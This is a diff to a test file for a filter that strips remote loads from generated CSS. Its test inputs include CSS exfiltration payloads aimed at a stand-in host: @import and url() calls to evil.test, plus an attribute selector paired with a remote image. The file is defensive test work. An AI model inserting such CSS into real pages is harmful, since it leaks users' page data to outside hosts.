@@ -1,9 +1,10 @@
 import { expect, test } from 'vitest';
 import { mergeChanges } from '../../../../../core/style/hand-edits/merge-changes.ts';
+import { checkChanges } from '../../../../../core/style/refine/check-changes.ts';
 import { readReply } from '../../../../../core/style/refine/read-reply.ts';
+import { fakeGate } from '../../../../fakes/fake-gate.ts';
 
-const read = (reply: string, isWhole = true) =>
-  readReply(reply, { sheets: 2, allowed: ['https://site.test/a.png'], isWhole });
+const read = (reply: string, isWhole = true) => readReply(reply, { sheets: 2, isWhole });
 const selectors = (reply: string) => read(reply).changes.map((change) => change.selectors.join());
 
 test('rules are read from a fence, from bare text, and for each sheet', () => {
@@ -52,19 +53,37 @@ test('a reply that was cut gives what is whole', () => {
   });
 });
 
-test('E8: what loads from elsewhere, and at-rules that are no style rules, are left out', () => {
-  const { changes, problems } = read(
+test('E8: what loads from elsewhere, and at-rules that are no style rules, are left out', async () => {
+  const reply = read(
     `@import "https://evil.test/a.css";
     a { background-image: url(https://evil.test/?q); color: red }
     b { background-image: url(https://site.test/a.png) }
+    @media (width > 5px) { .c { --x: "https://evil.test/"; border-color: var(--x) } }
     @font-face { font-family: x; src: url(https://evil.test/f) }`,
   );
+  const gate = fakeGate();
+  const { changes, problems } = await checkChanges(reply, (texts) => gate.problems(texts));
 
   expect(changes.map(({ declarations }) => declarations.map(({ property }) => property))).toEqual([
     ['color'],
-    ['background-image'],
+    ['border-color'],
   ]);
-  expect(problems).toHaveLength(3);
+  expect(problems.join('\n')).toMatch(/evil\.test.*site\.test.*--x/s);
+});
+
+test('a remote address stays at the place where the generator has written it', async () => {
+  const gate = fakeGate();
+  const css = 'b { background-image: url("https://site.test/a.png") !important; }';
+  gate.trust(`@layer page { ${css} }`);
+  const left = async (text: string) => {
+    const { changes } = await checkChanges(read(text), (texts) => gate.problems(texts));
+    return changes.length;
+  };
+
+  expect(await left(css)).toBe(1);
+  expect(await left(css.replace('b {', 'b[value^=a] {'))).toBe(0);
+  expect(await left(`@media (width > 5px) { ${css} }`)).toBe(0);
+  expect(await left(css.replace('a.png', 'a.png?x'))).toBe(0);
 });
 
 test('a refusal in words is no change', () => {
